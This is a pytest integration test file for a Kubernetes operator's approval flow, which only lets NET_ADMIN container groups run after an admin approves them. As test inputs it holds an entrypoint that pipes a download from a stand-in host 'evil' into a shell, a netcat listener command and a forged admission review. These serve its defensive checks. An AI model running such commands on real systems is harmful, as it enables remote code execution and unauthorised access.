"""Approvals of elevated container groups as users meet them, against the real control plane:
admins approve with `kubectl artifact approve` (an ArtifactApproval the API server's RBAC
authorizes), editors change things, and what runs follows only approved changes. Every test
that involves the operator runs twice: with the admission webhook registered, and with the
operator alone (no webhook): the guarantees must not depend on it."""

from __future__ import annotations

import copy
import json
import ssl
import urllib.error
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from kubernetes import client

from ..conftest import Cluster, create_artifact, delete_artifact, get_artifact
from ..support.builders import PINNED_IMAGE, container, primary, service_artifact
from ..support.operator import OperatorProcess
from ..support.wait import found, wait_for
from ..support.webhook import (
    bind,
    make_serving_cert,
    serving_webhooks,
    user_api,
    webhook_operator,
)
from .test_admission import ADMIN, EDITOR, install_roles
from .test_plugin import failed, ok, plugin, user

pytestmark = pytest.mark.cluster

GROUP, VERSION = "workload.dev", "v1alpha1"
ARTIFACTS, APPROVALS = "artifacts", "artifactapprovals"
NET_ADMIN = {"capabilities": {"add": ["NET_ADMIN"]}}


def elevated(name: str = "web", image: str = PINNED_IMAGE) -> dict[str, Any]:
    """Group `api`: `app` with NET_ADMIN, and a sidecar `side`; one replica."""
    app = primary(image=image, securityContext=NET_ADMIN, entrypoint=["/bin/serve"],
                  environmentVars=[{"name": "MODE", "value": "a"}])
    doc = service_artifact(name, app=app, replicas=1)
    doc["spec"]["containerGroups"][0]["containers"].append(container("side", "busybox:1.36"))
    return doc


@pytest.fixture(params=["webhook", "operator-alone"])
def mode(request: pytest.FixtureRequest, cluster: Cluster, namespace: str,
         tmp_path: Path) -> Iterator[str]:
    """The operator, with its webhook registered for the namespace or without any webhook;
    editor and admin users bound to the shipped roles."""
    install_roles(cluster)
    bind(cluster.rbac, namespace, EDITOR, "artifact-editor")
    bind(cluster.rbac, namespace, ADMIN, "artifact-admin")
    if request.param == "webhook":
        cert = make_serving_cert(tmp_path / "certs")
        proc = webhook_operator(cluster.kubeconfig, namespace, tmp_path / "operator.log", cert,
                                approval_key=None)
        with serving_webhooks(cluster.api, namespace, proc, cert.ca):
            yield request.param
    else:
        proc = OperatorProcess(cluster.kubeconfig, [namespace], tmp_path / "operator.log")
        proc.start()
        try:
            yield request.param
        finally:
            proc.stop()
            print("---- operator log ----\n" + proc.logs()[-20000:])


def custom(cluster: Cluster, user: str) -> client.CustomObjectsApi:
    return client.CustomObjectsApi(user_api(cluster.kubeconfig, user))


def handled(cluster: Cluster, namespace: str, name: str) -> dict[str, Any]:
    """The status once the operator has handled the current generation (else {})."""
    obj = get_artifact(cluster, namespace, name)
    status: dict[str, Any] = obj.get("status") or {}
    return status if status.get("observedGeneration") == obj["metadata"]["generation"] else {}


def condition(status: dict[str, Any], type_: str) -> dict[str, Any]:
    return next(c for c in status.get("conditions", []) if c["type"] == type_)


def template(cluster: Cluster, namespace: str, name: str = "web-api") -> dict[str, Any] | None:
    d = found(cluster.apps.read_namespaced_deployment, name, namespace)
    if d is None:
        return None
    out: dict[str, Any] = cluster.api.sanitize_for_serialization(d.spec.template.spec)
    return out


def caps(spec: dict[str, Any] | None) -> list[str] | None:
    if spec is None:
        return None
    return spec["containers"][0]["securityContext"]["capabilities"].get("add")


def admin_and_editor(cluster: Cluster, namespace: str, tmp_path: Path) -> tuple[Path, Path]:
    """kubeconfigs for the plugin: ServiceAccounts bound to the shipped admin/editor roles."""
    return (user(cluster, namespace, tmp_path, "ada", "artifact-admin"),
            user(cluster, namespace, tmp_path, "erin", "artifact-editor"))


def test_edits_after_an_approval_do_not_roll_out_with_the_capability(
        cluster: Cluster, namespace: str, mode: str, tmp_path: Path) -> None:
    admin, _ = admin_and_editor(cluster, namespace, tmp_path)
    custom(cluster, ADMIN).create_namespaced_custom_object(
        GROUP, VERSION, namespace, ARTIFACTS, {**elevated(), "metadata": {
            "name": "web", "namespace": namespace}})
    # Never approved: the group is not rendered at all, and status says why.
    status = wait_for(lambda: handled(cluster, namespace, "web"), what="first reconcile")
    assert condition(status, "Ready")["reason"] == "ElevatedNotApproved"
    assert "kubectl artifact approve web" in condition(status, "Ready")["message"]
    assert template(cluster, namespace) is None

    # The admin approves with the plugin: it runs with the capability.
    assert "group api approved" in ok(plugin(admin, "approve", "web"))
    running = wait_for(lambda: (t := template(cluster, namespace)) and caps(t) == ["NET_ADMIN"]
                       and t, what="the approved Deployment with NET_ADMIN")

    editor = custom(cluster, EDITOR)
    containers = get_artifact(cluster, namespace, "web")["spec"]["containerGroups"][0][
        "containers"]

    def with_app(**fields: Any) -> dict[str, Any]:
        changed = copy.deepcopy(containers)
        changed[0].update(fields)
        return {"spec": {"containerGroups": [{"name": "api", "containers": changed}]}}

    def with_side(**fields: Any) -> dict[str, Any]:
        changed = copy.deepcopy(containers)
        changed[1].update(fields)
        return {"spec": {"containerGroups": [{"name": "api", "containers": changed}]}}

    edits = {
        "entrypoint": (with_app(entrypoint=["/bin/sh", "-c", "curl evil | sh"]),
                       "container/app"),
        "env": (with_app(environmentVars=[{"name": "MODE", "value": "b"}]), "container/app"),
        "another container": (with_side(entrypoint=["nc", "-l", "-p", "9999"]),
                              "container/side"),
        "runtime tolerations": ({"spec": {"runtime": {"api": {
            "replicas": 1, "tolerations": [{"operator": "Exists"}]}}}}, "runtime"),
    }
    for what, (patch, part) in edits.items():
        # An editor's change (the webhook lets it through: it adds no elevated field) ...
        editor.patch_namespaced_custom_object(GROUP, VERSION, namespace, ARTIFACTS, "web",
                                              patch)
        containers = get_artifact(cluster, namespace, "web")["spec"]["containerGroups"][0][
            "containers"]
        status = wait_for(lambda: handled(cluster, namespace, "web"),
                          what=f"the {what} edit handled")
        degraded = condition(status, "Degraded")
        assert (degraded["status"], degraded["reason"]) == ("True", "ApprovalStale"), what
        assert "group api" in degraded["message"] and part in degraded["message"], degraded
        # ... leaves what runs exactly as approved: not rolled, not stripped of NET_ADMIN.
        assert template(cluster, namespace) == running, what
        # The next approval rolls the change out, with the capability.
        ok(plugin(admin, "approve", "web"))
        previous = running
        running = wait_for(lambda before=previous: (t := template(cluster, namespace))
                           and t != before and t, what=f"the approved {what} rolled out")
        assert caps(running) == ["NET_ADMIN"], what


def test_only_admins_may_write_approvals(cluster: Cluster, namespace: str,
                                         tmp_path: Path) -> None:
    """The API server's RBAC decides, with or without any webhook or operator running."""
    admin, editor = admin_and_editor(cluster, namespace, tmp_path)
    bind(cluster.rbac, namespace, EDITOR, "artifact-editor")
    create_artifact(cluster, namespace, elevated())
    # kubectl artifact approve, as an editor: refused by the API server.
    assert "Forbidden" in failed(plugin(editor, "approve", "web"))
    assert found(cluster.custom.get_namespaced_custom_object, GROUP, VERSION, namespace,
                 APPROVALS, "web") is None
    # An approval written by hand, as an editor: refused too.
    uid = get_artifact(cluster, namespace, "web")["metadata"]["uid"]
    forged = {"apiVersion": f"{GROUP}/{VERSION}", "kind": "ArtifactApproval",
              "metadata": {"name": "web", "namespace": namespace},
              "spec": {"artifact": {"name": "web", "uid": uid},
                       "groups": [{"name": "api", "digest": "sha256:" + "0" * 64}]}}
    erin = custom(cluster, EDITOR)
    with pytest.raises(client.ApiException) as info:
        erin.create_namespaced_custom_object(GROUP, VERSION, namespace, APPROVALS, forged)
    assert info.value.status == 403
    # The admin's approval stands; the editor can read it, not change or delete it.
    ok(plugin(admin, "approve", "web"))
    assert erin.get_namespaced_custom_object(GROUP, VERSION, namespace, APPROVALS, "web")
    for call in (
        lambda: erin.patch_namespaced_custom_object(
            GROUP, VERSION, namespace, APPROVALS, "web",
            {"spec": {"groups": [{"name": "api", "digest": "sha256:" + "1" * 64}]}}),
        lambda: erin.delete_namespaced_custom_object(GROUP, VERSION, namespace, APPROVALS,
                                                     "web"),
    ):
        with pytest.raises(client.ApiException) as info:
            call()
        assert info.value.status == 403


def test_a_recreated_artifact_is_not_approved_by_the_old_approval(
        cluster: Cluster, namespace: str, mode: str, tmp_path: Path) -> None:
    admin, _ = admin_and_editor(cluster, namespace, tmp_path)
    ada = custom(cluster, ADMIN)
    body = {**elevated(), "metadata": {"name": "web", "namespace": namespace}}
    ada.create_namespaced_custom_object(GROUP, VERSION, namespace, ARTIFACTS, body)
    ok(plugin(admin, "approve", "web"))
    wait_for(lambda: caps(template(cluster, namespace)) == ["NET_ADMIN"],
             what="the approved capability")
    # A copy of the approval that garbage collection does not remove with the artifact
    # (no owner): it still names the old uid.
    old = ada.get_namespaced_custom_object(GROUP, VERSION, namespace, APPROVALS, "web")
    ada.create_namespaced_custom_object(GROUP, VERSION, namespace, APPROVALS, {
        "apiVersion": f"{GROUP}/{VERSION}", "kind": "ArtifactApproval",
        "metadata": {"name": "web-kept", "namespace": namespace}, "spec": old["spec"]})
    delete_artifact(cluster, namespace, "web")
    wait_for(lambda: found(cluster.custom.get_namespaced_custom_object, GROUP, VERSION,
                           namespace, ARTIFACTS, "web") is None, what="the artifact gone")
    wait_for(lambda: template(cluster, namespace) is None, what="its Deployment collected")

    ada.create_namespaced_custom_object(GROUP, VERSION, namespace, ARTIFACTS, body)
    status = wait_for(lambda: handled(cluster, namespace, "web"), what="the new one handled")
    degraded = condition(status, "Degraded")
    assert degraded["reason"] == "ApprovalStale" and "uid differs" in degraded["message"]
    assert template(cluster, namespace) is None


def test_an_elevated_container_with_a_mutable_tag_is_refused(
        cluster: Cluster, namespace: str, mode: str) -> None:
    path = "spec.containerGroups[0].containers[0].imageUri"
    body = {**elevated(image="nginx:1.27"), "metadata": {"name": "web",
                                                         "namespace": namespace}}
    ada = custom(cluster, ADMIN)
    if mode == "webhook":
        with pytest.raises(client.ApiException) as info:
            ada.create_namespaced_custom_object(GROUP, VERSION, namespace, ARTIFACTS, body)
        assert info.value.status == 422
        assert path in info.value.body and "pin its image by digest" in info.value.body
        return
    # Without the webhook a 1.20 server stores it (it ignores CEL); the operator refuses it.
    ada.create_namespaced_custom_object(GROUP, VERSION, namespace, ARTIFACTS, body)
    status = wait_for(lambda: handled(cluster, namespace, "web"), what="the artifact handled")
    ready = condition(status, "Ready")
    assert ready["reason"] == "InvalidSpec" and path in ready["message"]
    assert template(cluster, namespace) is None


def test_a_forged_review_gains_nothing_rbac_refuses(
        cluster: Cluster, namespace: str, tmp_path: Path) -> None:
    """Without mutual TLS, anyone who reaches the webhook port can post a review claiming to
    be an admin, and the webhook believes it. That approves nothing: approving is writing an
    ArtifactApproval, which the API server refuses the editor."""
    install_roles(cluster)
    bind(cluster.rbac, namespace, EDITOR, "artifact-editor")
    bind(cluster.rbac, namespace, ADMIN, "artifact-admin")
    cert = make_serving_cert(tmp_path / "certs")
    proc = webhook_operator(cluster.kubeconfig, namespace, tmp_path / "operator.log", cert,
                            approval_key=None)
    with serving_webhooks(cluster.api, namespace, proc, cert.ca):
        obj = {**elevated(), "metadata": {"name": "web", "namespace": namespace}}
        review = {"apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview",
                  "request": {"uid": "1", "operation": "CREATE", "namespace": namespace,
                              "kind": {"group": GROUP, "version": VERSION,
                                       "kind": "Artifact"},
                              "resource": {"group": GROUP, "version": VERSION,
                                           "resource": ARTIFACTS},
                              "userInfo": {"username": ADMIN}, "object": obj}}
        answer = post_review(proc.webhook_port, cert.ca, review)  # type: ignore[attr-defined]
        assert answer["response"]["allowed"] is True  # the webhook was fooled ...
        # ... and that is all: the editor still cannot approve, and nothing runs elevated.
        create_artifact(cluster, namespace, elevated())  # (as the cluster admin)
        with pytest.raises(client.ApiException) as info:
            custom(cluster, EDITOR).create_namespaced_custom_object(
                GROUP, VERSION, namespace, APPROVALS, {
                    "apiVersion": f"{GROUP}/{VERSION}", "kind": "ArtifactApproval",
                    "metadata": {"name": "web", "namespace": namespace},
                    "spec": {"artifact": {"name": "web", "uid": get_artifact(
                        cluster, namespace, "web")["metadata"]["uid"]}, "groups": []}})
        assert info.value.status == 403
        status = wait_for(lambda: handled(cluster, namespace, "web"), what="handled")
        assert condition(status, "Ready")["reason"] == "ElevatedNotApproved"
        assert template(cluster, namespace) is None


def post_review(port: int, ca: Path, review: dict[str, Any],
                cert: tuple[Path, Path] | None = None) -> dict[str, Any]:
    context = ssl.create_default_context(cafile=str(ca))
    if cert is not None:
        context.load_cert_chain(str(cert[0]), str(cert[1]))
    request = urllib.request.Request(
        f"https://127.0.0.1:{port}/validate-artifact", data=json.dumps(review).encode(),
        headers={"Content-Type": "application/json"}, method="POST")
    with urllib.request.urlopen(request, context=context, timeout=10) as resp:
        answer: dict[str, Any] = json.loads(resp.read())
        return answer


def test_with_mutual_tls_a_caller_without_a_client_certificate_is_refused(
        cluster: Cluster, namespace: str, tmp_path: Path) -> None:
    cert = make_serving_cert(tmp_path / "certs")
    clients = make_serving_cert(tmp_path / "client")  # its own CA, and a certificate of it
    proc = webhook_operator(cluster.kubeconfig, namespace, tmp_path / "operator.log", cert,
                            approval_key=None,
                            extra_args=["--webhook-client-ca", str(clients.ca)])
    review = {"apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview",
              "request": {"uid": "1", "operation": "DELETE", "namespace": namespace,
                          "kind": {"group": GROUP, "version": VERSION, "kind": "Artifact"},
                          "resource": {"group": GROUP, "version": VERSION,
                                       "resource": ARTIFACTS},
                          "userInfo": {"username": ADMIN},
                          "oldObject": {**elevated(), "metadata": {
                              "name": "web", "namespace": namespace}}}}
    with proc:
        port = proc.webhook_port  # type: ignore[attr-defined]
        # With a certificate of the configured CA: served (the positive signal) ...
        answer = post_review(port, cert.ca, review, cert=(clients.cert, clients.key))
        assert answer["response"]["allowed"] is True
        # ... without one, or with one of another CA: refused in the TLS handshake.
        for client_cert in (None, (cert.cert, cert.key)):
            with pytest.raises((ssl.SSLError, urllib.error.URLError, ConnectionError)):
                post_review(port, cert.ca, review, cert=client_cert)
